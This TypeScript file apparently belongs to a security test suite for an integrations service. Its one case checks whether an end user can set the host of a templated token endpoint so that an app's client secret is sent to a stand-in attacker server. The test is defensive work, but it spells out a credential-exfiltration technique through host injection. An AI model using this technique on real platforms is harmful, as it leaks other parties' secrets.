import { type Attack, stopped, succeeded } from './attack.ts';

/** Template host escapes: an input in the host of an endpoint, to which a secret is sent. */

export const templateHosts: Attack[] = [
  {
    name: 'template host: whoever makes a connection names the host that is sent the client secret',
    falls: [["host is the integration's"]],
    async run(stage) {
      const id = stage.fresh('self-hosted');
      await stage.define(
        JSON.stringify({
          id,
          name: 'Self-hosted',
          inputs: { host: { label: 'Host', host: true, asked_of: 'end_user' } },
          methods: { app: { grant: 'client_credentials', token_endpoint: 'http://{host}/token' } },
        }),
      );
      const registration = { id, provider: id, client_id: 'app', client_secret: 'the-secret-of-the-app' };
      await stage.root.call('POST', '/v1/integrations', { body: registration }).catch(() =>
        // The host has to be said here.
        stage.root.call('POST', '/v1/integrations', { body: { ...registration, inputs: { host: 'login.acme.com' } } }),
      );
      stage.mislead(() => '');
      const connect = await stage.clientWith(['connect']);
      const inputs = { host: new URL(stage.evil.url).host };
      const body = { integration: id, end_user: { id: stage.fresh('attacker') }, grant: 'client_credentials', inputs };
      await connect.call('POST', '/v1/connections', { body }).catch(() => {});
      return stage.captured.length > 0 ? succeeded('the client secret went to the host of the attacker') : stopped('nothing went there');
    },
  },
];
